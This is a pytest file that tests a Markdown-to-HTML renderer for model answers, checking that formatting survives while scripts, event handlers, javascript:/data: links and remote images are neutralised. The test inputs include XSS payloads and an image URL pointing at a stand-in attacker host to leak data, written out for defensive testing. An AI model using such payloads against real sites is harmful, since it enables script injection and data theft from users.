"""Model answers as Markdown (`codesearch.markup.markdown`): formatting kept, nothing that can run or
fetch. Each case: the Markdown, fragments the HTML must contain, fragments it must not."""

from __future__ import annotations

import pytest

from codesearch.markup.markdown import render_markdown

REL = 'rel="noopener noreferrer nofollow"'

CASES = [
    ("heading and emphasis", "# Title\n\nsome *words* and **more**",
     ["<h1>Title</h1>", "<em>words</em>", "<strong>more</strong>"], []),
    ("fenced code keeps its language, escaped", "```python\nif a < b:\n    pass\n```",
     ['<pre><code class="language-python">if a &lt; b:'], ["a < b"]),
    ("inline code", "call `handle_request()` first", ["<code>handle_request()</code>"], []),
    ("lists", "- one\n- two\n\n1. first", ["<ul>", "<li>one</li>", "<ol>"], []),
    ("GFM table", "| file | line |\n|---|---|\n| a.py | 3 |", ["<table>", "<th>file</th>", "<td>a.py</td>"], []),
    ("raw HTML is text", "Here: <script>alert(1)</script> <b>bold</b>",
     ["&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;b&gt;bold&lt;/b&gt;"], ["<script", "<b>"]),
    ("HTML block is text", "<div onclick=\"x()\">\nhi\n</div>", ["&lt;div onclick="], ["<div"]),
    ("event handlers never become attributes", "<img src=x onerror=alert(1)>", ["&lt;img"], ["<img"]),
    ("images are never fetched", "![chart](https://attacker.example/leak?data=secret)",
     [f'<a href="https://attacker.example/leak?data=secret" {REL}>chart</a>'], ["<img"]),
    ("links get rel", "[docs](https://example.com/docs)", [f'<a href="https://example.com/docs" {REL}>docs</a>'], []),
    ("javascript: links are refused", "[x](javascript:alert(1))", ["[x](javascript:alert(1))"], ["<a "]),
    ("data: links are refused", "[x](data:text/html;base64,PHNjcmlwdD4=)", [], ["<a "]),
    ("autolinks of javascript: are refused", "<javascript:alert(1)>", [], ["<a "]),
    ("empty answer", "", [], ["<"]),
]


@pytest.mark.parametrize("name,text,present,absent", CASES, ids=[c[0] for c in CASES])
def test_render_markdown(name, text, present, absent):
    html = str(render_markdown(text))
    for fragment in present:
        assert fragment in html, (name, html)
    for fragment in absent:
        assert fragment not in html, (name, html)


def test_the_result_is_markup_for_jinja():
    from markupsafe import Markup

    assert isinstance(render_markdown("x"), Markup)
